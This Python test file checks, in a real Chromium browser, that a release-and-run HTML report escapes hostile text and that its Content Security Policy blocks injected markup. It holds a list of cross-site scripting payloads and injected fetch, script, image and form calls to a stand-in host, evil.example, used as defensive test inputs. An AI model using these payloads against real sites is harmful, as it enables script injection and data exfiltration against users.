"""A report about a malicious release or run runs no script and loads nothing, in a real browser."""

from __future__ import annotations

import json

import pytest
from browser_support import browser as browser  # noqa: PLC0414 -- a fixture
from browser_support import opened
from report_samples import SOURCE, job_task, lock, release, span

from hatch_tilebox.core.model import Source, Task
from hatch_tilebox.report.collect import collect_report
from hatch_tilebox.report.page import html_page

pytestmark = pytest.mark.needs_tool("chromium")

SCRIPT = "window.owned=1;alert(1)"
ATTACKS = (
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"<!--<script></title></style></textarea></pre></svg><img src=x onerror='{SCRIPT}'>",
    f'" onfocus="{SCRIPT}" autofocus x="',
    f"' onmouseover='{SCRIPT}' style='position:fixed;inset:0' x='",
    f"<svg onload={SCRIPT}><a href='javascript:{SCRIPT}'>x</a></svg>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe><base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><form action=https://evil.example/>",
    "<input autofocus onfocus=alert(1)>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}`${window.owned=1}`",
    "]]>--><xmp>\u2028window.owned=1\u2029",
)
ALL = "".join(ATTACKS)


def schema(attack):
    return {
        "type": "object",
        "title": attack,
        "properties": {
            attack: {"type": "string", "default": attack, "description": attack},
            f"{attack}2": {"enum": [attack, {attack: attack}]},
            f"{attack}3": {"$ref": f"#/$defs/{attack}"},
            f"{attack}4": {"type": attack, "format": attack, "pattern": attack},
            f"{attack}5": {"anyOf": [{"type": "null"}, {"type": "string", "title": attack}]},
        },
        "required": [attack, f"{attack}3", f"{attack}5"],
        "$defs": {attack: {"type": "object", "properties": {attack: {"const": attack}}, "required": [attack]}},
    }


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """A page about two releases and a run in which every text is an attack."""
    folder = tmp_path_factory.mktemp("hostile")
    of = tuple(
        Task(
            f"{attack[:200]}",
            "v1.0",
            schema(attack),
            attack,
            f"m:{attack}",
            ("cron", "storage-event", None)[index % 3],
            Source("a.py", 1),
        )
        for index, attack in enumerate(ATTACKS)
    )
    names = [
        f"{index} {attack.translate({ord(char): None for char in '/' + chr(0x2028) + chr(0x2029)})}"[:80]
        for index, attack in enumerate(ATTACKS)
    ]
    contents = {"a.py": SOURCE.encode(), "uv.lock": lock().encode(), **dict.fromkeys(names, b"old\n")}
    old = release(folder, of=of, contents=contents, environment=())
    text = (
        lock()
        .replace('name = "numpy"', f"name = '''{ALL.replace(chr(39) * 3, '')}'''")
        .replace("9.0.0", ALL.replace('"', "").replace("\n", ""))
    )
    changed = {"a.py": SOURCE.encode(), "uv.lock": text.encode(), **dict.fromkeys(names, ALL.encode())}
    removed = tuple(task._replace(input_schema={**task.input_schema, "properties": {}}) for task in of[1:])
    new = release(folder, "2", of=removed, contents=changed, environment=("PATH",))
    tasks = [
        job_task(
            index,
            attack,
            version=attack,
            display=attack,
            state="failed",
            error=attack,
            stacktrace=attack,
            input={attack: attack},
            progress=[{"label": attack, "done": 1, "total": 1}],
            logs=[{"level": attack, "message": attack, "attributes": {attack: attack}}],
            spans=[span(attack, 0, 1)],
        )
        for index, attack in enumerate(ATTACKS)
    ]
    (folder / "job.json").write_text(json.dumps({"state": "failed", "tasks": tasks}))
    page = html_page(collect_report(new, old=old, job=folder / "job.json"))
    (folder / "report.html").write_text(page, "utf-8")
    return folder / "report.html"


OWNED = (
    "window.owned || document.querySelectorAll('iframe, img, base, object, embed, [onfocus], [onload], [onerror], [style]').length"
)


def test_nothing_of_a_hostile_release_is_run_or_loaded(browser, report):
    with opened(browser, report) as witness:
        witness.open_details()
        for field in witness.page.locator("input, textarea, select").all():
            field.focus()
        for field in witness.page.locator("input, textarea").all():
            field.fill(ALL)
        for attempt in witness.page.locator("rect.attempt").all():
            attempt.hover()
        assert witness.evaluate(OWNED) == 0
        assert witness.evaluate("document.querySelectorAll('script').length") == 2
        assert witness.evaluate("document.querySelectorAll('style').length") == 1
        assert witness.evaluate("location.href").startswith("file:")
        assert witness.events == []


def test_hostile_text_is_shown_as_text_and_does_not_break_the_layout(browser, report):
    with opened(browser, report, width=360) as witness:
        witness.open_details()
        assert ATTACKS[0] in witness.page.locator("body").inner_text()
        assert witness.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize(
    ("script", "blocked"),
    [
        ("s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.body.append(s)", "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<p id=p onclick=\"window.owned = 1\">'); p.click()", "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')", "style-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x.png>')", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/>')", "default-src"),
        ("fetch('https://evil.example/').catch(() => {})", "default-src"),
        ("s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)", "script-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<form id=f action=https://evil.example/>'); f.submit()", "form-action"),
    ],
)
def test_the_policy_would_stop_markup_that_is_not_escaped(browser, report, script, blocked):
    with opened(browser, report, bypass_csp=False) as witness:
        found = witness.evaluate(
            f"""async () => {{
                const found = [];
                document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
                let s;
                {script};
                await new Promise((resolve) => setTimeout(resolve, 100));
                return found;
            }}"""
        )
        assert any(
            name.startswith(blocked) or (blocked == "default-src" and name in {"frame-src", "connect-src"}) for name in found
        )
        assert witness.evaluate("window.owned") is None
